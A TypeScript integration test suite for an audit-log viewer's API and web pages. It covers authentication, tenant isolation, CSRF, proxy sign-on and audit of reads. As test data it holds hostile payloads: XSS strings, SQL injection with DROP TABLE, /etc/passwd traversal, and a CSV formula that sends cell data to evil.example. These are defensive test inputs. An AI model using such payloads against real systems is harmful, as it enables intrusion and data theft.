/**
 * `audit-query serve` on MinIO and Kafka: events go through the real pipeline
 * (AuditClient -> Kafka -> audit-consumer --drain -> Parquet on S3), then the
 * compiled CLI serves them. The API of shared/CONTRACT.md, its authentication,
 * tenant scope (out of scope answered exactly like not found), hostile query
 * parameters and stored fields, CSRF, and the viewer's own reads in the trail.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import type { AuditEventInput } from '../../producer';
import { mintEmbedToken } from '../../viewer/embed/token';
import { isolatedEnv, runCli } from '../helpers/infra';
import { TopicReader } from '../helpers/topic-reader';
import { type RunningViewer, startViewer, storeEvents } from '../helpers/viewer';
import { parseCsv } from '../helpers/csv';

const AT = (d: number, h = 12, m = 0, s = 0) => Date.UTC(2026, 2, d, h, m, s); // March 2026
const id = (prefix: string, n: number) => `${prefix}-0000-4000-8000-${String(n).padStart(12, '0')}`;

const TOKENS = {
  acme: 'acme-token-0123456789abcdef',
  globex: 'globex-token-0123456789abcdef',
  all: 'all-tenants-token-0123456789abcdef',
};
const TOKEN_FILE_JSON = JSON.stringify([
  { token: TOKENS.acme, tenants: ['acme'], name: 'acme-viewer' },
  { token: TOKENS.globex, tenants: ['globex'], name: 'globex-viewer' },
  { token: TOKENS.all, tenants: '*', name: 'auditor' },
]);

const XSS = {
  actor: '<script>alert("actor")</script>',
  img: '<img src=x onerror=alert(1)>',
  link: 'javascript:alert(document.cookie)',
  html: '<b onmouseover="alert(2)">bold</b><iframe src="//evil.example"></iframe>',
  control: 'esc \u001b[2J bell \u0007 bidi \u202Egnp.exe nul-ish \u0001',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
};

/** Shared object invoice:SHARED has events in acme and globex; G-1 is globex's alone; N-1 has no tenant. */
const EVENTS: (AuditEventInput & { eventId: string })[] = [
  { eventId: id('a0000000', 1), objectType: 'invoice', objectId: 'SHARED', action: 'create', occurredAt: AT(1, 9), actorId: 'alice', tenantId: 'acme', requestId: 'req-acme-1', after: { status: 'draft', amount: 100 } },
  { eventId: id('a0000000', 2), objectType: 'customer', objectId: 'C-1', action: 'update', occurredAt: AT(1, 9, 0, 1), actorId: 'alice', tenantId: 'acme', requestId: 'req-acme-1', changes: { invoices: { old: 0, new: 1 } } },
  { eventId: id('a0000000', 3), objectType: 'invoice', objectId: 'SHARED', action: 'update', occurredAt: AT(2, 10), actorId: 'gary', tenantId: 'globex', requestId: 'req-globex-1', changes: { secret_note: { old: null, new: 'globex internal' } } },
  { eventId: id('a0000000', 4), objectType: 'invoice', objectId: 'SHARED', action: 'update', occurredAt: AT(3, 11), actorId: 'alice', tenantId: 'acme', changes: { status: { old: 'draft', new: 'sent' } } },
  { eventId: id('a0000000', 5), objectType: 'invoice', objectId: 'G-1', action: 'create', occurredAt: AT(2, 8), actorId: 'gary', tenantId: 'globex', after: { amount: 7 } },
  { eventId: id('a0000000', 6), objectType: 'invoice', objectId: 'N-1', action: 'create', occurredAt: AT(2, 8), actorId: 'system', tenantId: null, after: { amount: 1 } },
  {
    eventId: id('a0000000', 7),
    objectType: 'doc',
    objectId: XSS.img,
    action: 'update',
    occurredAt: AT(4, 7),
    actorId: XSS.actor,
    tenantId: 'acme',
    requestId: XSS.html,
    userAgent: XSS.control,
    traceId: XSS.formula,
    httpPath: XSS.link,
    after: { name: XSS.img, link: XSS.link, body: XSS.html, ctl: XSS.control, f: XSS.formula },
    changes: { [XSS.html]: { old: XSS.link, new: XSS.img } },
    metadata: { note: XSS.control, formula: XSS.formula },
    error: { type: 'Err<script>', message: XSS.html },
  },
];
const PAGED = 130;
for (let i = 0; i < PAGED; i++) {
  EVENTS.push({ eventId: id('b0000000', i), objectType: 'order', objectId: `O-${i % 13}`, action: 'update', occurredAt: AT(5, 0, 0, i), actorId: 'pager', tenantId: 'acme', changes: { n: { old: i - 1, new: i } } });
}
const LEDGER = 55;
for (let i = 0; i < LEDGER; i++) {
  EVENTS.push({ eventId: id('c0000000', i), objectType: 'ledger', objectId: 'L-1', action: 'update', occurredAt: AT(6, 0, i), actorId: 'clerk', tenantId: 'acme', changes: { balance: { old: i, new: i + 1 } } });
}
const NOT_ACME = [id('a0000000', 3), id('a0000000', 5), id('a0000000', 6)];


type Res = { status: number; type: string | null; body: string; headers: Headers };

describe('audit-query serve: API, scope and security on MinIO', () => {
  const vars = isolatedEnv('viewerapi', { AUDIT_VIEWER_PAGE_SIZE: '50', AUDIT_VIEWER_COOKIE_SECRET: 'a-cookie-secret-for-tests-only-0123456789' });
  let dir: string;
  let viewer: RunningViewer;
  let reader: TopicReader;

  const get = async (path: string, token: string | null, headers: Record<string, string> = {}): Promise<Res> => {
    const res = await fetch(`${viewer.url}${path}`, { headers: { ...(token === null ? {} : { authorization: `Bearer ${token}` }), ...headers }, redirect: 'manual' });
    return { status: res.status, type: res.headers.get('content-type'), body: await res.text(), headers: res.headers };
  };
  const events = async (path: string, token: string) => {
    const r = await get(path, token);
    expect({ path, status: r.status }).toEqual({ path, status: 200 });
    return JSON.parse(r.body) as { events: Record<string, unknown>[]; next: string | null };
  };
  /** Two answers a client can tell apart by nothing: status, body, and every header but the date. */
  const expectSame = (a: Res, b: Res) => {
    const strip = (h: Headers) => [...h.entries()].filter(([k]) => k !== 'date' && k !== 'content-disposition').sort();
    expect({ status: a.status, type: a.type, body: a.body, headers: strip(a.headers) }).toEqual({ status: b.status, type: b.type, body: b.body, headers: strip(b.headers) });
  };

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'viewer-api-'));
    await writeFile(join(dir, 'tokens.json'), TOKEN_FILE_JSON);
    await storeEvents(vars, EVENTS);
    reader = new TopicReader(vars.AUDIT_TOPIC!);
    await reader.start();
    viewer = await startViewer({ ...vars, AUDIT_VIEWER_TOKENS_FILE: join(dir, 'tokens.json') });
  }, 300_000);

  afterAll(async () => {
    await reader?.stop();
    if (viewer) {
      const exit = await viewer.stop();
      expect({ code: exit.code, signal: exit.signal }).toEqual({ code: 0, signal: null });
    }
    await rm(dir, { recursive: true, force: true });
  });

  describe('start-up', () => {
    it('refuses to start with neither tokens nor a trusted proxy header (exit 2, one line naming the variables)', async () => {
      const r = await runCli('query', ['serve', '--port', '0'], { ...vars, AUDIT_VIEWER_TOKENS: '', AUDIT_VIEWER_TOKENS_FILE: '' }, 60_000);
      expect(r.code).toBe(2);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(/AUDIT_VIEWER_TOKENS.*AUDIT_VIEWER_PROXY_HEADER/);
    });

    it('names the bad variable: malformed tokens, a short token, a missing file, a proxy header without addresses', async () => {
      const cases: [Record<string, string>, RegExp][] = [
        [{ AUDIT_VIEWER_TOKENS: '[{"token": ' }, /AUDIT_VIEWER_TOKENS: not JSON/],
        [{ AUDIT_VIEWER_TOKENS: '[{"token": "short", "tenants": "*"}]' }, /AUDIT_VIEWER_TOKENS: 0\.token: a token must have at least 16/],
        [{ AUDIT_VIEWER_TOKENS: '[{"token": "0123456789abcdef0", "tenants": []}]' }, /AUDIT_VIEWER_TOKENS: 0\.tenants/],
        [{ AUDIT_VIEWER_TOKENS_FILE: join(dir, 'missing.json') }, /AUDIT_VIEWER_TOKENS_FILE: cannot read/],
        [{ AUDIT_VIEWER_PROXY_HEADER: 'X-Auth-User' }, /AUDIT_VIEWER_PROXY_ADDRESSES/],
        [{ AUDIT_VIEWER_TOKENS: TOKEN_FILE_JSON, AUDIT_VIEWER_COOKIE_SECRET: 'short' }, /AUDIT_VIEWER_COOKIE_SECRET/],
      ];
      for (const [extra, pattern] of cases) {
        const r = await runCli('query', ['serve', '--port', '0'], { ...vars, AUDIT_VIEWER_TOKENS_FILE: '', ...extra }, 60_000);
        expect({ extra, code: r.code, lines: r.stderr.trim().split('\n').length }).toEqual({ extra, code: 2, lines: 1 });
        expect(r.stderr).toMatch(pattern);
      }
    });
  });

  describe('authentication', () => {
    it('answers 401 without a token, with a wrong one, or with a malformed header, on every API route and export', async () => {
      const paths = ['/api/history?object=invoice:SHARED', '/api/events?actor=alice', '/api/events?tenant=acme'];
      const bad: (Record<string, string> | null)[] = [
        null,
        { authorization: `Bearer ${TOKENS.acme}x` },
        { authorization: `Bearer ${TOKENS.acme.slice(0, -1)}` },
        { authorization: 'Bearer ' },
        { authorization: `Basic ${Buffer.from(`x:${TOKENS.all}`).toString('base64')}` },
        { authorization: TOKENS.all },
        { cookie: 'audit_viewer_session=v1.eyJ0IjoiMDAiLCJlIjo5OTk5OTk5OTk5fQ.forged' },
      ];
      for (const path of paths) {
        for (const headers of bad) {
          const r = await get(path, null, headers ?? {});
          expect({ path, headers, status: r.status, body: r.body }).toEqual({ path, headers, status: 401, body: '{"error":"unauthorized"}' });
          expect(r.headers.get('www-authenticate')).toMatch(/^Bearer/);
        }
      }
      for (const path of ['/export/csv?object=invoice:SHARED', '/object?object=invoice:SHARED']) {
        expect((await get(path, null, { authorization: 'Bearer nope-nope-nope-nope' })).status).toBe(401);
        const page = await get(path, null);
        expect(page.status).toBe(303);
        expect(page.headers.get('location')).toMatch(/^\/signin\?next=/);
      }
    });
  });

  describe('the API (shared/CONTRACT.md)', () => {
    it('/api/history answers {"events", "next"} with exactly the fields and values of audit-query --format json', async () => {
      const api = await events('/api/history?object=invoice:SHARED', TOKENS.all);
      const cli = await runCli('query', ['--object', 'invoice:SHARED', '--format', 'json'], vars, 60_000);
      expect(cli.code).toBe(0);
      expect(api).toEqual({ events: JSON.parse(cli.stdout), next: null });
      expect(api.events.map((e) => e.event_id)).toEqual([id('a0000000', 1), id('a0000000', 3), id('a0000000', 4)]);
    });

    it('/api/history filters by since, until, action and actor like the CLI', async () => {
      const ids = async (qs: string) => (await events(`/api/history?object=invoice:SHARED&${qs}`, TOKENS.all)).events.map((e) => e.event_id);
      expect(await ids('since=2026-03-02')).toEqual([id('a0000000', 3), id('a0000000', 4)]);
      expect(await ids('until=2026-03-02')).toEqual([id('a0000000', 1), id('a0000000', 3)]);
      expect(await ids('action=update&actor=alice')).toEqual([id('a0000000', 4)]);
    });

    it('/api/events searches by actor, tenant and action, and pages with a cursor until next is null', async () => {
      const seen: string[] = [];
      let path = '/api/events?actor=pager';
      let pages = 0;
      for (;;) {
        const page = await events(path, TOKENS.all);
        pages++;
        expect(page.events.length).toBeLessThanOrEqual(50);
        seen.push(...page.events.map((e) => String(e.event_id)));
        if (page.next === null) break;
        path = `/api/events?actor=pager&cursor=${encodeURIComponent(page.next)}`;
      }
      expect(pages).toBe(3);
      expect(seen).toEqual(Array.from({ length: PAGED }, (_, i) => id('b0000000', i)));
      const globex = await events('/api/events?tenant=globex', TOKENS.all);
      expect(globex.events.map((e) => e.event_id).sort()).toEqual([id('a0000000', 3), id('a0000000', 5)]);
      const creates = await events('/api/events?action=create&since=2026-03-02&until=2026-03-02', TOKENS.all);
      expect(creates.events.map((e) => e.event_id).sort()).toEqual([id('a0000000', 5), id('a0000000', 6)]);
    });

    it('/api/history pages a long history with a cursor bound to the object and scope', async () => {
      const first = await events('/api/history?object=ledger:L-1', TOKENS.acme);
      expect(first.events).toHaveLength(50);
      expect(first.next).not.toBeNull();
      const rest = await events(`/api/history?object=ledger:L-1&cursor=${encodeURIComponent(first.next!)}`, TOKENS.acme);
      expect(rest.next).toBeNull();
      expect([...first.events, ...rest.events].map((e) => e.event_id)).toEqual(Array.from({ length: LEDGER }, (_, i) => id('c0000000', i)));
      for (const [path, token] of [
        [`/api/history?object=ledger:L-1&cursor=${encodeURIComponent(first.next!)}`, TOKENS.all],
        [`/api/history?object=ledger:L-2&cursor=${encodeURIComponent(first.next!)}`, TOKENS.acme],
      ] as const) {
        const r = await get(path, token);
        expect({ status: r.status, body: r.body }).toEqual({ status: 400, body: '{"error":"cursor is not valid for this search"}' });
      }
    });

    it('refuses a tampered cursor, a cursor of another search, and one made for another scope (400, same answer)', async () => {
      const first = await events('/api/events?actor=pager', TOKENS.acme);
      expect(first.next).not.toBeNull();
      const cursor = first.next!;
      const tampered = cursor.slice(0, -2) + (cursor.endsWith('AA') ? 'BB' : 'AA');
      const answers = [
        await get(`/api/events?actor=pager&cursor=${encodeURIComponent(tampered)}`, TOKENS.acme),
        await get(`/api/events?actor=alice&cursor=${encodeURIComponent(cursor)}`, TOKENS.acme),
        await get(`/api/events?actor=pager&cursor=${encodeURIComponent(cursor)}`, TOKENS.all),
        await get(`/api/events?actor=pager&cursor=${encodeURIComponent(cursor)}`, TOKENS.globex),
        await get('/api/events?actor=pager&cursor=garbage', TOKENS.acme),
      ];
      for (const a of answers) expectSame(a, answers[0]!);
      expect(answers[0]!.status).toBe(400);
    });
  });

  describe('tenant scope: out of scope is answered exactly like not found', () => {
    it('an object in two tenants shows each token only its own tenant events', async () => {
      const ids = async (token: string) => (await events('/api/history?object=invoice:SHARED', token)).events.map((e) => e.event_id);
      expect(await ids(TOKENS.acme)).toEqual([id('a0000000', 1), id('a0000000', 4)]);
      expect(await ids(TOKENS.globex)).toEqual([id('a0000000', 3)]);
      const acmeBody = (await get('/api/history?object=invoice:SHARED', TOKENS.acme)).body;
      expect(acmeBody).not.toContain('globex');
      expect(acmeBody).not.toContain('gary');
    });

    it("another tenant's object, actor, tenant search and export are identical to ones that do not exist", async () => {
      const pairs: [string, string][] = [
        ['/api/history?object=invoice:G-1', '/api/history?object=invoice:G-9'],
        ['/api/history?object=invoice:N-1', '/api/history?object=invoice:N-9'],
        ['/api/events?actor=gary', '/api/events?actor=gory'],
        ['/api/events?actor=system', '/api/events?actor=systen'],
        ['/api/events?tenant=globex', '/api/events?tenant=glebex'],
        ['/api/events?tenant=globex&action=create', '/api/events?tenant=nobody&action=create'],
        ['/export/csv?object=invoice:G-1', '/export/csv?object=invoice:G-9'],
        ['/export/json?tenant=globex', '/export/json?tenant=glebex'],
        ['/export/json?actor=gary', '/export/json?actor=gory'],
      ];
      for (const [outOfScope, missing] of pairs) {
        const a = await get(outOfScope, TOKENS.acme);
        const b = await get(missing, TOKENS.acme);
        expect(a.status).toBe(200);
        expectSame(a, b);
        for (const hidden of NOT_ACME) expect(a.body).not.toContain(hidden);
      }
      // Pages name what was asked for; beyond that they are the same.
      for (const [outOfScope, missing, asked, other] of [
        ['/object?object=invoice:G-1', '/object?object=invoice:G-9', 'G-1', 'G-9'],
        ['/actor?actor=gary', '/actor?actor=gory', 'gary', 'gory'],
      ] as const) {
        const a = await get(outOfScope, TOKENS.acme);
        const b = await get(missing, TOKENS.acme);
        expect(a.status).toBe(200);
        expect(a.body.replaceAll(asked, other)).toBe(b.body);
      }
      // The all-tenants token does see them (the pairs above differ only by scope).
      expect((await events('/api/history?object=invoice:G-1', TOKENS.all)).events).toHaveLength(1);
    });

    it('hides events with no tenant from scoped tokens, whatever the search', async () => {
      for (const token of [TOKENS.acme, TOKENS.globex]) {
        for (const path of ['/api/history?object=invoice:N-1', '/api/events?actor=system', '/api/events?action=create&since=2026-03-02&until=2026-03-02']) {
          expect((await events(path, token)).events.map((e) => e.event_id)).not.toContain(id('a0000000', 6));
        }
      }
      expect((await events('/api/history?object=invoice:N-1', TOKENS.all)).events.map((e) => e.event_id)).toEqual([id('a0000000', 6)]);
    });

    it('the request view lists only the scope\'s events of a request', async () => {
      const a = await get(`/request?request_id=req-globex-1&at=${encodeURIComponent('2026-03-02T10:00:00Z')}`, TOKENS.acme);
      const b = await get(`/request?request_id=req-globex-9&at=${encodeURIComponent('2026-03-02T10:00:00Z')}`, TOKENS.acme);
      expect(a.body.replaceAll('req-globex-1', 'req-globex-9')).toBe(b.body);
      const own = await get(`/request?request_id=req-acme-1&at=${encodeURIComponent('2026-03-01T09:00:00Z')}`, TOKENS.acme);
      expect(own.body).toContain(id('a0000000', 1));
      expect(own.body).toContain(id('a0000000', 2));
    });
  });

  describe('hostile input', () => {
    const INJECTIONS = [
      "' OR '1'='1",
      "'; DROP TABLE audit; --",
      '%',
      '_',
      '*',
      '$id',
      '${7*7}',
      '{{7*7}}',
      '../../../etc/passwd',
      '\u0000',
      '\u001b[2J',
      '<script>alert(1)</script>',
      'javascript:alert(1)',
      'a'.repeat(5000),
      '\ud800',
      '[object Object]',
      '__proto__',
      'constructor',
    ];
    /** Each route with the parameters it reads. */
    const ROUTES: [string, string[]][] = [
      ['/api/history?object=invoice:SHARED', ['object', 'since', 'until', 'action', 'actor', 'cursor']],
      ['/api/events?actor=pager', ['actor', 'tenant', 'action', 'since', 'until', 'cursor']],
      ['/object?object=invoice:SHARED', ['object', 'since', 'until', 'actor', 'action', 'as_of']],
      ['/actor?actor=alice', ['actor', 'since', 'until', 'cursor']],
      ['/?actor=alice', ['actor', 'tenant', 'action', 'since', 'until', 'cursor']],
      ['/export/csv?object=invoice:SHARED', ['object', 'actor', 'action', 'since', 'until']],
      ['/export/json?actor=alice', ['actor', 'tenant', 'action', 'since', 'until']],
      ['/request?request_id=req-acme-1&at=2026-03-01T09:00:00Z', ['request_id', 'at']],
    ];

    it('every query parameter of every route, with injection strings: 200 with nothing out of scope, or 400; never an error, never a leak', async () => {
      let checked = 0;
      for (const [route, params] of ROUTES) {
        for (const p of params) {
          for (const value of INJECTIONS) {
            const url = new URL(route, 'http://x');
            url.searchParams.set(p, value);
            const r = await get(`${url.pathname}${url.search}`, TOKENS.acme);
            checked++;
            expect({ route, p, value: value.slice(0, 40), ok: r.status === 200 || r.status === 400 }).toEqual({ route, p, value: value.slice(0, 40), ok: true });
            for (const hidden of NOT_ACME) expect(r.body).not.toContain(hidden);
            if (r.type?.startsWith('text/html')) {
              expect(r.body).not.toMatch(/<script|<img|href="javascript:|\u001b/);
            }
          }
        }
        const twice = await get(`${route}&${params[0]}=a&${params[0]}=b`, TOKENS.acme);
        expect(twice.status).toBe(400);
      }
      expect(checked).toBe(ROUTES.reduce((n, [, params]) => n + params.length, 0) * INJECTIONS.length);
      // Injection strings are data: an id that looks like SQL finds nothing, and a search for % finds no one.
      expect((await events(`/api/history?object=${encodeURIComponent("invoice:' OR '1'='1")}`, TOKENS.all)).events).toEqual([]);
      expect((await events('/api/events?actor=%25', TOKENS.all)).events).toEqual([]);
      expect((await events('/api/events?actor=_', TOKENS.all)).events).toEqual([]);
    });

    it('stored <script>, <img onerror>, javascript: links, HTML and control characters render inert in every page', async () => {
      const docRef = `doc:${XSS.img}`;
      const pages = [
        `/object?object=${encodeURIComponent(docRef)}`,
        `/object?object=${encodeURIComponent(docRef)}&as_of=2026-03-05`,
        `/actor?actor=${encodeURIComponent(XSS.actor)}`,
        `/?tenant=acme&since=2026-03-04&until=2026-03-04`,
        `/request?request_id=${encodeURIComponent(XSS.html)}&at=2026-03-04T07:00:00Z`,
      ];
      for (const path of pages) {
        const r = await get(path, TOKENS.acme);
        expect({ path, status: r.status }).toEqual({ path, status: 200 });
        expect(r.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
        expect(r.headers.get('x-content-type-options')).toBe('nosniff');
        expect(r.body).toContain(id('a0000000', 7));
        // No markup from the store: only escaped text, and no active character.
        expect(r.body).not.toMatch(/<script|<img|<iframe|<b |href="javascript:/i);
        // No event-handler attribute in any tag (attribute values, stored text escaped inside quotes, set aside).
        for (const tag of r.body.match(/<[a-z][^>]*>/gi) ?? []) expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\son[a-z]+\s*=/i);
        expect(r.body).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202e]/);
        expect(r.body).toContain('&lt;script&gt;alert(&quot;actor&quot;)&lt;/script&gt;');
        expect(r.body).toMatch(/&lt;img src=x onerror=alert\(1\)&gt;/);
      }
      const state = await get(pages[1]!, TOKENS.acme);
      expect(state.body).toContain('id="state"');
      expect(state.body).toContain('javascript:alert(document.cookie)');
      expect(state.body).not.toContain('href="javascript');
    });

    it('CSV exports neutralise formulas and control characters; JSON exports carry values but no markup a browser could sniff', async () => {
      const csv = await get('/export/csv?actor=' + encodeURIComponent(XSS.actor), TOKENS.acme);
      expect(csv.status).toBe(200);
      expect(csv.type).toMatch(/^text\/csv/);
      expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-export-[0-9TZ-]+\.csv"$/);
      expect(csv.body).toContain(id('a0000000', 7));
      expect(csv.body).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202e]/);
      const rows = parseCsv(csv.body);
      const header = rows[0]!;
      const row = rows.find((r) => r[header.indexOf('event_id')] === id('a0000000', 7))!;
      expect(row[header.indexOf('trace_id')]).toBe(`'${XSS.formula}`);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@]/);
      const json = await get('/export/json?actor=' + encodeURIComponent(XSS.actor), TOKENS.acme);
      expect(json.body).not.toMatch(/[<>]/);
      const parsed = JSON.parse(json.body) as Record<string, unknown>[];
      expect(parsed[0]!.actor_id).toBe(XSS.actor);
      expect((parsed[0]!.after as Record<string, unknown>).ctl).toBe(XSS.control);
    });
  });

  describe('browser sessions', () => {
    const cookiesOf = (h: Headers) => h.getSetCookie().map((c) => c.split(';')[0]!).join('; ');

    it('signs in once with a token for an HttpOnly, SameSite cookie; sign-in and sign-out refuse a missing or foreign CSRF token', async () => {
      const form = await get('/signin', null);
      expect(form.status).toBe(200);
      const csrf = /name="_csrf" value="([^"]+)"/.exec(form.body)![1]!;
      const csrfCookie = cookiesOf(form.headers);
      const post = (body: Record<string, string>, cookie: string) =>
        fetch(`${viewer.url}/signin`, { method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded', cookie }, body: new URLSearchParams(body).toString() });
      // Without the token, with a made-up one, with a token but no cookie (a forged cross-site post carries neither).
      for (const [body, cookie] of [
        [{ token: TOKENS.acme }, csrfCookie],
        [{ token: TOKENS.acme, _csrf: 'forged' }, csrfCookie],
        [{ token: TOKENS.acme, _csrf: csrf }, ''],
      ] as const) {
        const r = await post(body, cookie);
        expect(r.status).toBe(403);
        expect(r.headers.getSetCookie().some((c) => c.startsWith('audit_viewer_session='))).toBe(false);
      }
      const wrong = await post({ token: 'not-a-token-at-all-000', _csrf: csrf }, csrfCookie);
      expect(wrong.status).toBe(401);
      const ok = await post({ token: TOKENS.acme, _csrf: csrf, next: '/actor?actor=alice' }, csrfCookie);
      expect(ok.status).toBe(303);
      expect(ok.headers.get('location')).toBe('/actor?actor=alice');
      const session = ok.headers.getSetCookie().find((c) => c.startsWith('audit_viewer_session='))!;
      expect(session).toMatch(/HttpOnly/i);
      expect(session).toMatch(/SameSite=Strict/i);
      const cookie = `${csrfCookie}; ${session.split(';')[0]}`;
      const page = await get('/actor?actor=alice', null, { cookie });
      expect(page.status).toBe(200);
      expect(page.body).toContain('acme-viewer');
      expect(page.body).toContain(id('a0000000', 1));
      // The session is scoped like its token.
      expect((await get('/api/history?object=invoice:G-1', null, { cookie })).body).toBe('{"events":[],"next":null}');
      // Open redirects are not followed.
      const offsite = await post({ token: TOKENS.acme, _csrf: csrf, next: '//evil.example/x' }, csrfCookie);
      expect(offsite.headers.get('location')).toBe('/');
      const signout = await fetch(`${viewer.url}/signout`, { method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded', cookie }, body: '' });
      expect(signout.status).toBe(403);
    });
  });

  describe('single sign-on through a trusted reverse proxy', () => {
    const proxyVars = (addresses: string) => ({
      ...vars,
      AUDIT_VIEWER_PROXY_HEADER: 'X-Auth-User',
      AUDIT_VIEWER_PROXY_ADDRESSES: addresses,
      AUDIT_VIEWER_PROXY_TENANTS: JSON.stringify({ 'ann@acme.example': ['acme'], 'root@corp.example': '*' }),
    });
    const ask = async (base: string, path: string, user: string | null) => {
      const res = await fetch(`${base}${path}`, { headers: user === null ? {} : { 'x-auth-user': user }, redirect: 'manual' });
      return { status: res.status, body: await res.text() };
    };

    it('takes the identity from the header of a configured proxy address, scoped by its mapping; unmapped identities get 401', async () => {
      // No tokens at all: the proxy header alone is a configuration that starts.
      const sso = await startViewer(proxyVars('127.0.0.1, ::1'));
      try {
        const ann = await ask(sso.url, '/api/history?object=invoice:SHARED', 'ann@acme.example');
        expect(ann.status).toBe(200);
        expect((JSON.parse(ann.body) as { events: { event_id: string }[] }).events.map((e) => e.event_id)).toEqual([id('a0000000', 1), id('a0000000', 4)]);
        const root = await ask(sso.url, '/api/history?object=invoice:SHARED', 'root@corp.example');
        expect((JSON.parse(root.body) as { events: unknown[] }).events).toHaveLength(3);
        const page = await ask(sso.url, '/actor?actor=alice', 'ann@acme.example');
        expect(page.status).toBe(200);
        expect(page.body).toContain('proxy:ann@acme.example');
        for (const user of ['mallory@evil.example', '', 'ANN@acme.example']) {
          expect((await ask(sso.url, '/api/history?object=invoice:SHARED', user)).status).toBe(401);
        }
        expect((await ask(sso.url, '/api/history?object=invoice:SHARED', null)).status).toBe(401);
        // The read is recorded under the proxy identity.
        const read = await reader.waitFor((r) => r.action === 'read' && r.actor_id === 'proxy:ann@acme.example');
        expect(read[0]!.metadata.viewer_auth).toBe('proxy');
      } finally {
        const exit = await sso.stop();
        expect(exit.code).toBe(0);
      }
    });

    it('ignores the header from any other address (a client cannot sign itself in by sending it)', async () => {
      const sso = await startViewer(proxyVars('192.0.2.10, 2001:db8::/32'));
      try {
        for (const path of ['/api/history?object=invoice:SHARED', '/api/events?actor=alice']) {
          const r = await ask(sso.url, path, 'root@corp.example');
          expect({ path, status: r.status, body: r.body }).toEqual({ path, status: 401, body: '{"error":"unauthorized"}' });
        }
      } finally {
        await sso.stop();
      }
    });
  });

  describe('the embed routes, mounted', () => {
    it("serve an embed token's object in its tenant only, without a session, and record the read", async () => {
      const key = randomBytes(32);
      await writeFile(join(dir, 'embed.key'), key);
      const embedded = await startViewer({ ...vars, AUDIT_VIEWER_TOKENS_FILE: join(dir, 'tokens.json'), AUDIT_EMBED_KEY_FILE: join(dir, 'embed.key'), AUDIT_EMBED_ORIGINS: 'https://app.example.com' });
      try {
        const history = async (object: string) => {
          const res = await fetch(`${embedded.url}/embed/history?token=${encodeURIComponent(mintEmbedToken({ tenant: 'acme', object }, key))}`);
          expect(res.status).toBe(200);
          return (await res.json()) as { events: { event_id: string }[] };
        };
        expect((await history('invoice:SHARED')).events.map((e) => e.event_id)).toEqual([id('a0000000', 1), id('a0000000', 4)]);
        expect((await history('invoice:G-1')).events).toEqual([]);
        const frame = await fetch(`${embedded.url}/embed/frame?token=${encodeURIComponent(mintEmbedToken({ tenant: 'acme', object: 'invoice:SHARED' }, key))}`);
        expect(frame.status).toBe(200);
        expect(frame.headers.get('content-security-policy')).toContain('frame-ancestors https://app.example.com');
        expect(frame.headers.get('x-frame-options')).toBeNull();
        expect((await fetch(`${embedded.url}/embed/history?token=forged`)).status).toBe(401);
        const read = await reader.waitFor((r) => r.action === 'read' && r.actor_id === 'embed:acme' && r.object_id === 'G-1');
        expect(read[0]).toMatchObject({ object_type: 'invoice', tenant_id: 'acme' });
        // The rest of the viewer still needs a sign-in.
        expect((await fetch(`${embedded.url}/api/history?object=invoice:SHARED`)).status).toBe(401);
      } finally {
        expect((await embedded.stop()).code).toBe(0);
      }
    });
  });

  describe('the audit trail', () => {
    it("records the viewer's own reads through the producer: action read, the object or search, the viewer's identity", async () => {
      await get('/api/history?object=invoice:G-1', TOKENS.acme);
      await get('/api/events?tenant=globex', TOKENS.acme);
      await get('/export/csv?object=invoice:SHARED', TOKENS.all);
      const objectRead = await reader.waitFor((r) => r.action === 'read' && r.actor_id === 'acme-viewer' && r.object_type === 'invoice' && r.object_id === 'G-1');
      expect(objectRead[0]).toMatchObject({ actor_type: 'viewer', tenant_id: 'acme', source_service: 'audit-query serve', http_path: '/api/history' });
      const searchRead = await reader.waitFor((r) => r.action === 'read' && r.actor_id === 'acme-viewer' && r.object_type === 'audit_viewer_search' && r.metadata.viewer_query === JSON.stringify({ tenant: 'globex' }));
      expect(searchRead[0]!.object_id).toBe('api-events');
      const exportRead = await reader.waitFor((r) => r.action === 'read' && r.actor_id === 'auditor' && r.metadata.viewer_view === 'export-csv');
      expect(exportRead[0]).toMatchObject({ object_type: 'invoice', object_id: 'SHARED', tenant_id: null });
    });
  });
});
